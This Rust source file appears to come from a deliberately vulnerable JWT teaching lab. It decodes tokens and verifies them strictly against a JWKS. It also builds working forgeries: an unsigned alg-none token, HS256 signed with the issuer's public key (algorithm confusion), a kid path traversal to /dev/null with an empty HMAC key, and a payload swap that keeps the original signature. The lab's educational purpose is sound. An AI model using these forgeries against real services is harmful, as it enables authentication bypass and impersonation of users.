//! The token inspector's logic: decode a JWT (no key needed: it is only base64url), check it
//! against the lab's JWKS (fetched over HTTP, like any replica does), and make an edited copy
//! that keeps the original signature. Pure functions; the inspector view draws their results.
//!
//! This deliberately does not use `lab::tokens`: the app knows the lab only from outside.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::jwk::JwkSet;
use jsonwebtoken::{Algorithm, DecodingKey, Validation};
use serde_json::Value;

/// The issuer the lab puts in `iss`.
pub const LAB_ISSUER: &str = "forgetful-lab";
/// The audience the lab puts in `aud`: a verifier must name itself, or a token with `aud` fails.
pub const LAB_AUDIENCE: &str = "forgetful-shop";

/// A token split into its three parts, the first two decoded.
#[derive(Debug, Clone, PartialEq)]
pub struct Decoded {
    pub header: Value,
    pub payload: Value,
    /// The encoded parts exactly as they are in the token.
    pub parts: [String; 3],
    pub signature: Vec<u8>,
}

impl Decoded {
    pub fn claim_str(&self, name: &str) -> Option<&str> {
        self.payload.get(name).and_then(Value::as_str)
    }
    pub fn claim_i64(&self, name: &str) -> Option<i64> {
        self.payload.get(name).and_then(Value::as_i64)
    }
}

pub const NOT_A_JWT: &str = "not a JWT: expected three base64url parts separated by dots";

fn b64(part: &str) -> Result<Vec<u8>, String> {
    URL_SAFE_NO_PAD
        .decode(part.trim_end_matches('='))
        .map_err(|_| NOT_A_JWT.to_string())
}

/// Reads a token without any key: anyone holding it can do this.
pub fn decode(token: &str) -> Result<Decoded, String> {
    let token = token.trim();
    let parts: Vec<&str> = token.split('.').collect();
    let [h, p, sig] = parts.as_slice() else {
        return Err(NOT_A_JWT.into());
    };
    let header: Value = serde_json::from_slice(&b64(h)?)
        .map_err(|_| format!("{NOT_A_JWT} (the header is not JSON)"))?;
    let payload: Value = serde_json::from_slice(&b64(p)?)
        .map_err(|_| format!("{NOT_A_JWT} (the payload is not JSON)"))?;
    Ok(Decoded {
        header,
        payload,
        parts: [h.to_string(), p.to_string(), sig.to_string()],
        signature: b64(sig).unwrap_or_default(),
    })
}

/// Checks a token as a replica would: alg, kid, signature (against the JWKS), issuer, expiry.
/// `Ok(kid)` when it verifies; otherwise the reason it is refused, in words.
pub fn verify(token: &str, jwks_json: &str, now: i64) -> Result<String, String> {
    let d = decode(token)?;
    match d.header.get("alg").and_then(Value::as_str) {
        Some(a) if a.eq_ignore_ascii_case("none") => {
            return Err("alg none is not accepted: an unsigned token proves nothing".into());
        }
        Some("EdDSA") => {}
        Some(other) => {
            return Err(format!(
                "alg {other} is not accepted: this issuer signs with EdDSA"
            ));
        }
        None => return Err("the header has no alg".into()),
    }
    let Some(kid) = d.header.get("kid").and_then(Value::as_str) else {
        return Err("the header has no kid, so no key can be chosen to check it".into());
    };
    let set: JwkSet =
        serde_json::from_str(jwks_json).map_err(|e| format!("the lab's JWKS is not valid: {e}"))?;
    let Some(jwk) = set
        .keys
        .iter()
        .find(|k| k.common.key_id.as_deref() == Some(kid))
    else {
        return Err(format!("unknown kid {kid:?}: it is not in the lab's JWKS"));
    };
    let key = DecodingKey::from_jwk(jwk).map_err(|e| format!("the JWKS key is unusable: {e}"))?;
    let mut v = Validation::new(Algorithm::EdDSA);
    // Expiry is checked below against the inspector's clock, so the answer is reproducible.
    v.validate_exp = false;
    v.set_audience(&[LAB_AUDIENCE]);
    v.required_spec_claims.clear();
    jsonwebtoken::decode::<Value>(token.trim(), &key, &v).map_err(|e| {
        use jsonwebtoken::errors::ErrorKind as K;
        match e.kind() {
            K::InvalidSignature => {
                "tampered: the signature does not match header.payload".to_string()
            }
            _ => format!("refused: {e}"),
        }
    })?;
    if d.claim_str("iss") != Some(LAB_ISSUER) {
        return Err(format!("the issuer (iss) is not {LAB_ISSUER}"));
    }
    match d.claim_i64("exp") {
        None => return Err("no exp claim: the lab only accepts tokens that expire".into()),
        Some(exp) if exp <= now => return Err(format!("expired {}", relative(exp, now))),
        Some(_) => {}
    }
    Ok(kid.to_string())
}

/// A copy of `token` with `payload_json` as its payload and the ORIGINAL header and
/// signature: what a tamperer can make without the issuer's private key.
pub fn forge(token: &str, payload_json: &str) -> Result<String, String> {
    let d = decode(token)?;
    let v: Value =
        serde_json::from_str(payload_json).map_err(|e| format!("the payload is not JSON: {e}"))?;
    let compact = serde_json::to_string(&v).map_err(|e| e.to_string())?;
    Ok(format!(
        "{}.{}.{}",
        d.parts[0],
        URL_SAFE_NO_PAD.encode(compact),
        d.parts[2]
    ))
}

/// The same payload under a header that says `alg: none`, with no signature: the forgery a
/// verifier that believes the header accepts (the lab's `alg-none` weakness).
pub fn forge_alg_none(token: &str) -> Result<String, String> {
    let d = decode(token)?;
    let header = URL_SAFE_NO_PAD.encode(r#"{"alg":"none","typ":"JWT"}"#);
    Ok(format!("{header}.{}.", d.parts[1]))
}

/// The kid-path forgery's `kid`: from the lab's key folder up to `/dev/null`, a file every
/// machine has and which is empty, so the HMAC key it names is known to everyone.
pub const KID_PATH_FORGERY: &str = "../../../../dev/null";

/// The same payload signed HS256 with `secret`, under a header naming `kid`.
fn forge_hs256(token: &str, kid: &str, secret: &[u8]) -> Result<String, String> {
    use hmac::{Hmac, Mac};
    let d = decode(token)?;
    let header = serde_json::json!({"alg": "HS256", "typ": "JWT", "kid": kid});
    let signed = format!(
        "{}.{}",
        URL_SAFE_NO_PAD.encode(header.to_string()),
        d.parts[1]
    );
    let mut mac = Hmac::<sha2::Sha256>::new_from_slice(secret).map_err(|e| e.to_string())?;
    mac.update(signed.as_bytes());
    let sig = URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes());
    Ok(format!("{signed}.{sig}"))
}

/// The key confusion (the lab's `hs256-public-key` weakness): HS256 with the issuer's
/// PUBLIC key, as published in the JWKS (the JWK's `x`), for the HMAC secret. A verifier
/// that lets the header pick the algorithm feeds that same public key to HMAC and agrees.
pub fn forge_hs256_public_key(token: &str, jwks_json: &str) -> Result<String, String> {
    let d = decode(token)?;
    let set: JwkSet =
        serde_json::from_str(jwks_json).map_err(|e| format!("the JWKS is not a key set: {e}"))?;
    let kid = d.header.get("kid").and_then(Value::as_str);
    let jwk = set
        .keys
        .iter()
        .find(|k| kid.is_some() && k.common.key_id.as_deref() == kid)
        .or_else(|| set.keys.first())
        .ok_or("the JWKS lists no key")?;
    let kid = jwk.common.key_id.clone().unwrap_or_default();
    let x = match &jwk.algorithm {
        jsonwebtoken::jwk::AlgorithmParameters::OctetKeyPair(okp) => okp.x.clone(),
        _ => return Err("the JWKS key is not an EdDSA (OKP) key".into()),
    };
    forge_hs256(token, &kid, x.as_bytes())
}

/// The path trick (the lab's `kid-path` weakness): `kid` names `/dev/null` and the token is
/// HS256-signed with its contents, nothing, as the key.
pub fn forge_kid_path(token: &str) -> Result<String, String> {
    forge_hs256(token, KID_PATH_FORGERY, b"")
}

/// "in 12 min" / "3 min ago" for a timestamp against `now`.
pub fn relative(t: i64, now: i64) -> String {
    let d = t - now;
    let a = d.unsigned_abs();
    let amount = if a < 60 {
        format!("{a} s")
    } else if a < 3600 {
        format!("{} min", a / 60)
    } else if a < 86_400 * 2 {
        format!("{} h {} min", a / 3600, (a % 3600) / 60)
    } else {
        format!("{} days", a / 86_400)
    };
    if d >= 0 {
        format!("in {amount}")
    } else {
        format!("{amount} ago")
    }
}

/// A Unix time as local wall-clock time ("2025-01-01 10:15:00"), with the offset applied.
pub fn local_time(t: i64, offset_secs: i32) -> String {
    let offset = time::UtcOffset::from_whole_seconds(offset_secs).unwrap_or(time::UtcOffset::UTC);
    match time::OffsetDateTime::from_unix_timestamp(t) {
        Ok(dt) => {
            let dt = dt.to_offset(offset);
            let fmt =
                time::macros::format_description!("[year]-[month]-[day] [hour]:[minute]:[second]");
            dt.format(&fmt).unwrap_or_default()
        }
        Err(_) => "out of range".into(),
    }
}

/// The first bytes of the signature, in hex.
pub fn signature_preview(sig: &[u8], n: usize) -> String {
    let shown: Vec<String> = sig.iter().take(n).map(|b| format!("{b:02x}")).collect();
    let more = if sig.len() > n { " …" } else { "" };
    format!("{}{more}", shown.join(" "))
}

/// The tail of a secret, for on-screen hints ("…abcd").
pub fn tail(s: &str, n: usize) -> String {
    let chars: Vec<char> = s.chars().collect();
    let start = chars.len().saturating_sub(n);
    format!("…{}", chars[start..].iter().collect::<String>())
}
